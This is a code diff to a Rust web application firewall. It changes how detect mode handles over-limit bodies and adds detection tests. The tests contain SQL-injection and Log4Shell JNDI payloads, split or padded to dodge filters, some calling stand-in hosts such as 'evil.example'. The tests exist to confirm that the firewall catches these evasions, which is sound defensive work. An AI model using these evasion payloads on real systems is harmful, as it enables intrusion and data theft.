@@ -10,7 +10,7 @@ use portcullis_core::{WafMatch, WafReport};
 use portcullis_core::coding::{self as inflate, Inflated};
 
 use crate::coding;
-use crate::config::{Action, Mode, OverLimit, RouteWaf};
+use crate::config::{Action, Mode, RouteWaf};
 use crate::detect::{self, api};
 use crate::extract::{self, BodyFacts, BodyKind};
 use crate::extract_rules::BODY_OVER_LIMIT;
@@ -36,7 +36,8 @@ pub enum BodyState<'a> {
     /// ([`crate::sniff`]), buffered whole within the inspection limit: inspected as a body
     /// without a type is.
     Sniffed(&'a [u8]),
-    /// Over the inspection limit and let through uninspected (`on_body_over_limit: pass`).
+    /// Over the inspection limit and let through uninspected (`on_body_over_limit: pass`, or
+    /// `detect` mode).
     Skipped { limit: u64 },
 }
 
@@ -50,8 +51,9 @@ pub struct Outcome {
     /// upstream instead of the compressed one (an upstream that does not inflate it would read
     /// bytes the WAF never judged: gzip header fields, a zlib stream read as raw deflate).
     pub inflated: Option<Vec<u8>>,
-    /// The body inflates past the inspection limit and the route says `reject`: refused
-    /// (413) in every mode, as a body sent that long is.
+    /// The body inflates past the inspection limit and the route refuses such bodies (in
+    /// `block` mode, `on_body_over_limit: reject`): refused (413), as a body sent that long
+    /// is.
     pub inflated_over_limit: bool,
 }
 
@@ -139,7 +141,7 @@ pub fn inspect(route: &RouteWaf, req: &Inspection<'_>) -> Outcome {
             let body = match &inflated {
                 Inflated::Plain => Some(bytes),
                 Inflated::Inflated(body) => Some(body.as_slice()),
-                Inflated::OverLimit if route.on_body_over_limit == OverLimit::Pass => {
+                Inflated::OverLimit if route.passes_over_limit() => {
                     informational = Some(over_limit(route.inspect_body_bytes, "inflated "));
                     None
                 }
@@ -179,8 +181,8 @@ pub fn inspect(route: &RouteWaf, req: &Inspection<'_>) -> Outcome {
         }
         BodyState::Skipped { limit } => {
             informational = Some(over_limit(limit, ""));
-            // A body passed uninspected (`on_body_over_limit: pass`) is still one two readers
-            // could take for two different things.
+            // A body passed uninspected (`on_body_over_limit: pass`, `detect` mode) is still
+            // one two readers could take for two different things.
             if req
                 .head
                 .headers
@@ -281,7 +283,8 @@ pub fn inspect(route: &RouteWaf, req: &Inspection<'_>) -> Outcome {
     out
 }
 
-/// Rule 1004, recorded but not scored: the body passed uninspected (`on_body_over_limit: pass`).
+/// Rule 1004, recorded but not scored: the body passed uninspected (`on_body_over_limit: pass`,
+/// or `detect` mode).
 fn over_limit(limit: u64, what: &str) -> Finding {
     let t = Target::new(Location::Body, "", Part::Value, "");
     let mut f = Finding::new(BODY_OVER_LIMIT, &t, crate::transform::View::Raw, "");
@@ -397,6 +400,7 @@ pub fn enforces(route: &RouteWaf) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::config::OverLimit;
 
     fn post(body: &'static str) -> (http::request::Parts, &'static str) {
         let (head, ()) = http::Request::builder()
@@ -525,6 +529,63 @@ mod tests {
             .unwrap();
         assert_eq!(copy.finding.exclusion_key, "body:$.items[1].note");
         assert!(!at("body:$.x").is_empty());
+    }
+
+    /// An attack split by a child element or a processing instruction is found in the text a
+    /// parser joins (`getTextContent()`, XPath's `string()`).
+    #[test]
+    fn attacks_split_in_xml_text_are_found() {
+        let (head, ()) = http::Request::builder()
+            .method("POST")
+            .uri("/orders")
+            .header("content-type", "application/xml")
+            .body(())
+            .unwrap()
+            .into_parts();
+        for (body, class) in [
+            (
+                "<r><q>1' UNI<?x?>ON SELECT password FROM users--</q></r>",
+                Class::Sqli,
+            ),
+            (
+                "<r><q>1' UNI<b/>ON SELECT password FROM users--</q></r>",
+                Class::Sqli,
+            ),
+            ("<r><q>x' O<b/>R 'a'='a</q></r>", Class::Sqli),
+            ("<r><q>${jn<?x?>di:ldap://evil/a}</q></r>", Class::Log4Shell),
+        ] {
+            let out = run(&head, body);
+            assert!(out.blocked, "{body}: {:?}", out.findings);
+            assert!(
+                out.findings
+                    .iter()
+                    .any(|f| f.finding.class == class && f.finding.target == "body:/r/q"),
+                "{body}: {:?}",
+                out.findings
+            );
+        }
+    }
+
+    /// A lookup behind 9000 bytes of padding in a JSON field, or followed by 257 junk lookups,
+    /// is resolved (the resolver read the first 8 KiB, and gave up after 256 lookups).
+    #[test]
+    fn a_lookup_behind_padding_or_junk_is_resolved() {
+        const ATTACK: &str = "${${x:-j}ndi:rmi://evil.example/a}";
+        for v in [
+            format!("{}{ATTACK}", "a".repeat(9000)),
+            format!("{ATTACK}{}", "${x}".repeat(257)),
+        ] {
+            let (head, _) = post("");
+            let out = run(&head, &format!(r#"{{"q":"{v}"}}"#));
+            assert!(out.blocked);
+            assert!(
+                out.findings
+                    .iter()
+                    .any(|f| f.finding.rule == 2000 && f.finding.target == "body:$.q"),
+                "{:?}",
+                out.findings
+            );
+        }
     }
 
     #[test]
@@ -798,7 +859,15 @@ mod tests {
             (f.rule, f.snippet.as_str()),
             (1006, "inflates past 1000 bytes")
         );
-        // … or recorded and passed.
+        // … or recorded and passed: under `pass`, and in `detect` mode, which refuses nothing.
+        let detect = RouteWaf {
+            mode: Mode::Detect,
+            ..small.clone()
+        };
+        let out = with(&detect, "text/plain", "gzip", &bomb);
+        assert!(!out.blocked && !out.inflated_over_limit);
+        assert_eq!(rules(&out), [1004]);
+        assert!(out.findings[0].informational);
         let pass = RouteWaf {
             on_body_over_limit: OverLimit::Pass,
             ..small
